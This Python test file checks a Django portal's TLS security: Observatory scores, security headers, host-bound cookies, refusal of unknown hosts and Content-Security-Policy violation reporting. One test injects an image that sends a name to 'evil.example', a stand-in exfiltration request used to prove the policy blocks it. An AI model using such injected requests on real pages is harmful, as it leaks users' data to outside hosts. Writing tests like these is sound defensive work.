"""What a browser and MDN's HTTP Observatory make of the portal as it is served over TLS."""

import json
import os
import re
import shutil
import subprocess

import pytest
from django.db import connections
from playwright.sync_api import sync_playwright
from programs import CHROMIUM, installed

from portal.upkeep.models import PolicyReport
from tests.browser.conftest import FLAGS
from tests.serving.conftest import ROOT
from tests.test_headers import EXPECTED

pytestmark = pytest.mark.django_db  # so that the tables are made
OBSERVATORY = ROOT / "node_modules" / "@mdn" / "mdn-http-observatory"
PRELOADED = OBSERVATORY / "conf" / "hsts-preload.json"
LEAST_SCORE = 100
PATIENCE = 10_000  # milliseconds


def scanned(served, path):
    """Return what the Observatory says of a page; its list of hosts that browsers know as TLS-only is empty here.

    The package's install script would download that list, and localhost is not on it.
    """
    if not PRELOADED.exists():
        PRELOADED.write_text("{}")
    done = subprocess.run(
        [shutil.which("node") or ROOT / ".venv" / "node" / "node", OBSERVATORY / "src" / "scan.js", path],
        env=os.environ | {"NODE_EXTRA_CA_CERTS": str(served.authority)},
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    return json.loads(done.stdout)


@pytest.mark.parametrize("path", ["/", "/account/sign-in/"])
def test_observatory_finds_nothing_wrong(served, path):
    found = scanned(served, served.address.removeprefix("https://") + path)
    assert {name: test["result"] for name, test in found["tests"].items() if not test["pass"]} == {}
    assert found["scan"]["score"] >= LEAST_SCORE


def test_every_answer_carries_the_headers_over_tls(served):
    with served.get("/") as start:
        style = re.search(r'href="(/static/built/portal\.\w+\.css)"', start.read().decode())[1]
    for path, status in [("/", 200), (style, 200), ("/nowhere/", 404), ("/briefings/", 302), ("/csp-reports", 405)]:
        with served.get(path) as answer:
            assert (path, answer.status) == (path, status)
            assert {name: answer.headers[name] for name in EXPECTED} == EXPECTED
            assert answer.headers["Strict-Transport-Security"].startswith("max-age=63072000; includeSubDomains")
            assert "default-src 'none'" in answer.headers["Content-Security-Policy"]


def test_unknown_host_is_refused_with_the_headers(served):
    with served.get("/", Host="evil.example") as answer:
        assert answer.status == 400
        assert {name: answer.headers[name] for name in EXPECTED} == EXPECTED


def test_cookies_are_bound_to_the_host(served):
    with served.get("/account/sign-in/") as answer:
        cookies = answer.headers.get_all("Set-Cookie")
    assert cookies
    for cookie in cookies:
        assert cookie.startswith("__Host-")
        assert {"Secure", "HttpOnly", "SameSite=Lax", "Path=/"} <= set(cookie.split("; "))
        assert "Domain" not in cookie


@pytest.mark.django_db(transaction=True)
def test_browser_reports_what_the_policy_kept_out(served, monkeypatch):
    monkeypatch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "1")
    with sync_playwright() as playwright:
        flags = [*FLAGS, "--short-reporting-delay", "--ignore-certificate-errors"]
        browser = playwright.chromium.launch(executable_path=installed(*CHROMIUM), args=flags)
        page = browser.new_page(base_url=served.address, ignore_https_errors=True)
        page.goto("/")
        page.evaluate("document.body.append(Object.assign(new Image(), {src: 'https://evil.example/?name=Sam'}))")
        for _tenth in range(PATIENCE // 100):
            if PolicyReport.objects.exists():
                break
            page.wait_for_timeout(100)
        assert PolicyReport.objects.get().host == "evil.example"
        browser.close()
        connections.close_all()  # those that Playwright's loop has opened
